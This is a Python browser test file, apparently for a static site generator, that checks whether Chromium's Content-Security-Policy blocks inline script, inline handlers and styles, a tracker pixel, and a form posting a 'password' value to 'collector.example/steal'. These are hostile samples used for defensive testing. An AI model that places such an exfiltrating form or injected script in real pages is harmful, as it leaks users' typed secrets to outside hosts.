"""The Content-Security-Policy, seen from Chromium: inline script, handlers and styles refused."""

from conftest import chapter

from benchmarks.audit import served


def test_the_browser_runs_no_inline_script_and_asks_nothing_of_another_site(browser, build_site):
    body = (
        '<script>document.title = "inline script ran"</script>\n\n'
        '<img alt="tracker" src="https://tracker.example/pixel.png">\n\n'
        '<p onclick="document.title = \'handler ran\'" id="clickable">Click me</p>\n\n'
        '<p style="color: rgb(255, 0, 0)" id="styled">Red?</p>\n\n'
        '<a href="https://example.org/" target="_blank">Elsewhere</a>\n'
    )
    build = build_site({"chapter1.md": chapter("One", "chapter1", body=body)})
    assert build.exit_code == 0, build.log
    requested, blocked, violations = [], {}, []
    with served(build.output) as base_url:
        context = browser.new_context()
        try:
            page = context.new_page()
            page.on("request", lambda request: requested.append(request.url))
            page.on("requestfailed", lambda request: blocked.update({request.url: request.failure}))
            page.on(
                "console",
                lambda message: (
                    violations.append(message.text)
                    if "Content Security Policy" in message.text
                    else None
                ),
            )
            page.goto(f"{base_url}/chapter1.html")
            page.click("#clickable")
            title = page.title()
            color = page.eval_on_selector("#styled", "e => getComputedStyle(e).color")
        finally:
            context.close()
    assert "ran" not in title
    assert color != "rgb(255, 0, 0)"
    # Chromium reports the request it refused; none may have gone out.
    outside = {url: blocked.get(url) for url in requested if not url.startswith(base_url)}
    assert outside == {"https://tracker.example/pixel.png": "csp"}
    assert violations, "the browser reported no Content-Security-Policy violation"


def test_a_form_in_a_chapter_cannot_send_what_a_student_types_to_another_site(
    browser, build_site
):
    body = (
        '<form action="https://collector.example/steal" method="post">\n'
        '<input id="secret" name="secret" value="password">\n'
        '<button id="send" type="submit">Send</button>\n'
        "</form>\n"
    )
    build = build_site({"chapter1.md": chapter("One", "chapter1", body=body)})
    assert build.exit_code == 0, build.log
    requested, violations = [], []
    with served(build.output) as base_url:
        context = browser.new_context()
        try:
            page = context.new_page()
            page.on("request", lambda request: requested.append(request.url))
            page.on(
                "console",
                lambda message: (
                    violations.append(message.text) if "form-action" in message.text else None
                ),
            )
            page.goto(f"{base_url}/chapter1.html")
            with page.expect_console_message(lambda message: "form-action" in message.text):
                page.click("#send", no_wait_after=True)
            address = page.url
        finally:
            context.close()
    assert address == f"{base_url}/chapter1.html"
    assert not [url for url in requested if "collector.example" in url]
    assert violations, "the browser reported no form-action violation"
